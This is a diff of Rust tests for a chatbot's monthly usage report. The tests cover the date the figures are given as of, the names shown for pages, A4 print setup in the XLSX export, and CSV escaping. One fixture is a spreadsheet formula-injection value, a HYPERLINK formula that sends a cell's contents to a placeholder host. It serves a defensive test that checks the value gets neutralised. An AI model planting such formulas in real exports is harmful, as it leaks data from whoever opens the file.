@@ -25,6 +25,18 @@ fn october() -> NaiveDate {
     NaiveDate::from_ymd_opt(2026, 10, 1).expect("date")
 }
 
+/// The app on 1 October 2026 with the padrón loaded.
+async fn october_app(db: &TestDb) -> App {
+    let app = App::build(
+        settings(db, None),
+        Clock::fixed(lima("2026-10-01T08:00:00")),
+    )
+    .await
+    .expect("app");
+    load_padron(&app.store, db).await;
+    app
+}
+
 /// One user action at `at`, a minute apart from the next.
 async fn act(app: &App, chat: &ChatRef, input: Inbound) {
     turn(app, chat, input).await;
@@ -59,13 +71,7 @@ async fn scripted_month(app: &App) {
 
 async fn usage_report_counts_each_ally_access_and_never_staff(backend: Backend) {
     let db = TestDb::new(backend).await;
-    let app = App::build(
-        settings(&db, None),
-        Clock::fixed(lima("2026-10-01T08:00:00")),
-    )
-    .await
-    .expect("app");
-    load_padron(&app.store, &db).await;
+    let app = october_app(&db).await;
     let acoria = access(&app, Place::District("090103"), "987650001").await;
     let region = access(&app, Place::Region("09"), "987650002").await;
     let entity = access(
@@ -78,7 +84,8 @@ async fn usage_report_counts_each_ally_access_and_never_staff(backend: Backend) 
     scripted_month(&app).await;
 
     let mut conn = app.store.pool.acquire().await.expect("conn");
-    let report = contigo_bot::services::reports::usage(&mut conn, october())
+    let november = NaiveDate::from_ymd_opt(2026, 11, 5).expect("date");
+    let report = contigo_bot::services::reports::usage(&mut conn, october(), november)
         .await
         .expect("report");
     drop(conn);
@@ -196,6 +203,120 @@ async fn usage_report_counts_each_ally_access_and_never_staff(backend: Backend) 
     app.store.close().await;
 }
 
+/// One part of an XLSX (a zip of XML files), as text.
+pub(crate) fn xlsx_part(xlsx: &[u8], part: &str) -> String {
+    use std::io::Read;
+    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).expect("an XLSX is a zip");
+    let mut out = String::new();
+    zip.by_name(part)
+        .unwrap_or_else(|e| panic!("no {part}: {e}"))
+        .read_to_string(&mut out)
+        .expect("utf-8 XML");
+    out
+}
+
+/// Every sheet of an XLSX prints on A4 across one page's width (as many pages down
+/// as it needs), the rows down to the header repeated on each page, the title in the
+/// page header; `landscape`: which sheets (1-based) print landscape.
+pub(crate) fn assert_prints_well(xlsx: &[u8], title: &str, landscape: &[usize]) {
+    let book = xlsx_part(xlsx, "xl/workbook.xml");
+    let sheets = book.matches("<sheet ").count();
+    assert!(sheets > 0, "{book}");
+    for n in 1..=sheets {
+        let xml = xlsx_part(xlsx, &format!("xl/worksheets/sheet{n}.xml"));
+        assert!(
+            xml.contains(r#"<pageSetUpPr fitToPage="1"/>"#),
+            "sheet {n} fits to the page: {xml}"
+        );
+        let setup = xml
+            .split("<pageSetup")
+            .nth(1)
+            .and_then(|s| s.split("/>").next())
+            .unwrap_or_else(|| panic!("sheet {n} has a print setup: {xml}"));
+        assert!(setup.contains(r#"paperSize="9""#), "A4: {setup}");
+        assert!(
+            setup.contains(r#"fitToHeight="0""#),
+            "pages down as needed: {setup}"
+        );
+        assert_eq!(
+            setup.contains(r#"orientation="landscape""#),
+            landscape.contains(&n),
+            "sheet {n}'s orientation: {setup}"
+        );
+        assert!(
+            xml.contains("<oddHeader>&amp;C") && xml.contains(title),
+            "sheet {n} carries the title on each page: {xml}"
+        );
+        assert!(
+            xml.contains("<oddFooter>&amp;C&amp;P / &amp;N"),
+            "page numbers: {xml}"
+        );
+    }
+    // The notes and the header row, repeated on each printed page.
+    assert_eq!(
+        book.matches(r#"name="_xlnm.Print_Titles""#).count(),
+        sheets,
+        "{book}"
+    );
+}
+
+/// What a person opens reads right: figures as of the day the report was made while
+/// the month runs, page and access-type names instead of codes, a print setup on
+/// every sheet, and an entity name a spreadsheet would run as a formula written as
+/// text in the CSV.
+async fn usage_report_reads_prints_and_opens_safely(backend: Backend) {
+    let db = TestDb::new(backend).await;
+    let app = october_app(&db).await;
+    access(&app, Place::District("090103"), "987650001").await;
+    let trap = r#"=HYPERLINK("http://x.example/?"&A1,"ver")"#;
+    access(&app, Place::Entity(trap), "987650004").await;
+    scripted_month(&app).await;
+
+    let mut conn = app.store.pool.acquire().await.expect("conn");
+    let mid_month = NaiveDate::from_ymd_opt(2026, 10, 25).expect("date");
+    let report = contigo_bot::services::reports::usage(&mut conn, october(), mid_month)
+        .await
+        .expect("report");
+    drop(conn);
+    let locales = &app.engine.locales;
+    let xlsx = contigo_bot::services::reports::usage_document(locales, "es", &report)
+        .to_xlsx()
+        .expect("xlsx");
+    let sheets = read_xlsx(&xlsx);
+    assert!(
+        sheets[0].notes[0].contains("Datos al 25/10/2026"),
+        "{:?}",
+        sheets[0].notes
+    );
+    let exits: Vec<String> = sheets[3]
+        .texts()
+        .into_iter()
+        .map(|r| r[0].clone())
+        .collect();
+    for page in [
+        "Menú principal",
+        "Usuarios vigentes",
+        "Descarga de una lista",
+    ] {
+        assert!(exits.iter().any(|p| p == page), "{page} in {exits:?}");
+    }
+    for code in ["menu", "vigentes", "descarga", "otro"] {
+        assert!(!exits.iter().any(|p| p == code), "{code} in {exits:?}");
+    }
+    // The two matrices are wide; the two short tables fit a portrait page.
+    assert_prints_well(&xlsx, "Reporte de uso de aliados, 10/2026", &[1, 2]);
+
+    let csv = contigo_bot::services::reports::usage_csv(locales, "es", &report).to_csv();
+    let mut reader = csv::Reader::from_reader(csv.as_slice());
+    let header = reader.headers().expect("header").clone();
+    let col = |name: &str| header.iter().position(|h| h == name).expect(name);
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
+    let kinds: Vec<&str> = rows.iter().map(|r| &r[col("Tipo de acceso")]).collect();
+    assert_eq!(kinds, ["Gobierno Local", "Otro Aliado"]);
+    assert_eq!(&rows[1][col("Entidad")], format!("'{trap}"));
+    app.store.close().await;
+}
+
 /// The outbox rows addressed to a chat, as JSON payloads.
 async fn outbox_to(app: &App, channel: &str, chat: &str) -> Vec<String> {
     let mut conn = app.store.pool.acquire().await.expect("conn");
@@ -263,5 +384,6 @@ async fn uac_gets_the_usage_report_once_on_the_first_business_day(backend: Backe
 
 backends!(
     usage_report_counts_each_ally_access_and_never_staff,
-    uac_gets_the_usage_report_once_on_the_first_business_day
+    uac_gets_the_usage_report_once_on_the_first_business_day,
+    usage_report_reads_prints_and_opens_safely
 );
